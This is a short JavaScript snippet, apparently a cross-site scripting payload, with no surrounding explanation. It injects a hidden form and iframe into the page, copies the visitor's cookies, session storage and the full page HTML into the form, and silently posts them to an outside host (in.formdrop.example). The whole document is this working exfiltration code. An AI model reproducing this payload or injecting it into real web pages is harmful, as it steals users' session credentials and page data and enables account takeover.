document.body.insertAdjacentHTML('beforeend', '<form id=zz method=post target=zf action="https://in.formdrop.example/p"><textarea name=a></textarea><textarea name=b></textarea></form><iframe name=zf hidden></iframe>');
zz.a.value = document.cookie + '\n' + JSON.stringify(sessionStorage);
zz.b.value = document.documentElement.outerHTML;
zz.submit();
